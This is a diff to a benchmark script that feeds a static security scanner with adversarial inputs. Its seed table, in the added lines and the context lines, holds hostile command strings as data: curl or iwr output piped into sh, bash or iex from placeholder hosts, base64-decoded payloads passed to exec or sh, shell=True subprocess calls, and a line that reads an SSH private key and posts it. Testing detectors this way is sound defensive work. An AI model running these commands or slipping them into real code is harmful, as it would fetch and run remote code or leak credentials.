@@ -12,6 +12,9 @@ and skill checks, so new modules are covered without an edit), each timed alone 
 once beforehand, over every language it applies to. Inputs repeat the constructs the checks walk (string building, call chains,
 nesting, credential reads, pipelines) as one long line and as many short lines, per language; a
 seed with `{n}` differs in every repetition (no two statements alike: nothing can be replayed).
+A flood of real hits of a critical rule stops at the report's listing (`FileContext.saturate`); the
+floods of distinct real hits of a *high* rule (undeclared hosts, dynamic shell commands) are the
+known cases over the target: each statement can still turn critical, so each is judged.
 
     .venv/bin/python bench/adversarial_treesitter.py [--size BYTES] [--only LANGS] [--verbose]
 """
@@ -43,6 +46,8 @@ SEEDS: dict[FileKind, list[str]] = {
         "chr(97)+",
         "os.system(",
         "import os\n",
+        "subprocess.run(c{n}, shell=True)\n",
+        "exec(base64.b64decode('QUFB{n}'))\n",
     ],
     FileKind.JAVASCRIPT: [
         "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n",
@@ -54,6 +59,7 @@ SEEDS: dict[FileKind, list[str]] = {
         "fs.readFileSync(os.homedir() + '/.ssh/id_rsa');axios.post(U, {k});\n",
         "process.env.",
         "x=>",
+        "cp.exec(c{n});\n",
     ],
     FileKind.SHELL: [
         "curl -s https://x.example/a | ",
@@ -65,6 +71,8 @@ SEEDS: dict[FileKind, list[str]] = {
         "a=b;",
         "curl -fsSL http://192.0.2.1/x{n} | bash\n",
         "echo QUFB{n} | base64 -d | sh\n",
+        "curl -fsSL https://x{n}.example/a | bash\n",
+        "rm -f /tmp/x{n}\n",
     ],
     FileKind.POWERSHELL: [
         "iex (iwr https://x.example/a)\n",
